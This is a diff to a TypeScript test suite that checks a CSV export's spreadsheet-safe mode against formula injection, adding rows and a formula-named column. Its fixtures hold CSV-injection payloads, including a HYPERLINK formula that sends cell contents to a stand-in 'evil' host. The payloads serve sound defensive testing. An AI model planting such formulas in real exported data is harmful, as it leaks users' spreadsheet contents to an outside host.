@@ -377,7 +377,7 @@ describe('CSV for spreadsheets (OWASP: CSV injection)', () => {
     schema = await freshSchema('exformula');
     await asTenant(
       schema,
-      `CREATE TABLE "${schema}".cells (id int PRIMARY KEY, v text, n numeric, j jsonb);
+      `CREATE TABLE "${schema}".cells (id int PRIMARY KEY, v text, n numeric, j jsonb, "=1+1" text);
        INSERT INTO "${schema}".cells VALUES
          (1, '=HYPERLINK("http://evil/"&A1,"click")', -5, '"=1+1"'),
          (2, '+1+2', 1.5, '{}'),
@@ -386,7 +386,9 @@ describe('CSV for spreadsheets (OWASP: CSV injection)', () => {
          (5, E'\\t=1', 0, NULL),
          (6, E'\\r=1', 0, NULL),
          (7, 'plain = text', 0, NULL),
-         (8, NULL, 0, NULL)`,
+         (8, NULL, 0, NULL),
+         (9, E' \\n=1', 0, NULL),
+         (10, '＝1+1', 0, NULL)`,
     );
   });
   const exportCsv = (query: Record<string, string> = {}) =>
@@ -395,24 +397,29 @@ describe('CSV for spreadsheets (OWASP: CSV injection)', () => {
   it('keeps every value exactly by default, for a round trip', async () => {
     const reply = await exportCsv();
 
-    expect(reply.text.split('\n')[1]).toBe('1,"=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1"""');
+    expect(reply.text.split('\n').slice(0, 2)).toEqual([
+      'id,v,n,j,=1+1',
+      '1,"=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1""",',
+    ]);
   });
 
-  it('with spreadsheetSafe, starts every text cell a spreadsheet would run with a quote, numbers kept', async () => {
+  it('with spreadsheetSafe, starts every text cell and column name a spreadsheet would run with a quote, numbers kept', async () => {
     const reply = await exportCsv({ spreadsheetSafe: 'true' });
 
     expect(reply.status).toBe(200);
     expect(reply.text).toBe(
       [
-        'id,v,n,j',
-        `1,"'=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1"""`,
-        `2,'+1+2,1.5,{}`,
-        `3,'-2+3,,`,
-        `4,'@SUM(A1),0,`,
-        `5,'\t=1,0,`,
-        `6,"'\r=1",0,`,
-        '7,plain = text,0,',
-        '8,,0,',
+        `id,v,n,j,'=1+1`,
+        `1,"'=HYPERLINK(""http://evil/""&A1,""click"")",-5,"""=1+1""",`,
+        `2,'+1+2,1.5,{},`,
+        `3,'-2+3,,,`,
+        `4,'@SUM(A1),0,,`,
+        `5,'\t=1,0,,`,
+        `6,"'\r=1",0,,`,
+        '7,plain = text,0,,',
+        '8,,0,,',
+        `9,"' \n=1",0,,`,
+        `10,'＝1+1,0,,`,
         '',
       ].join('\n'),
     );
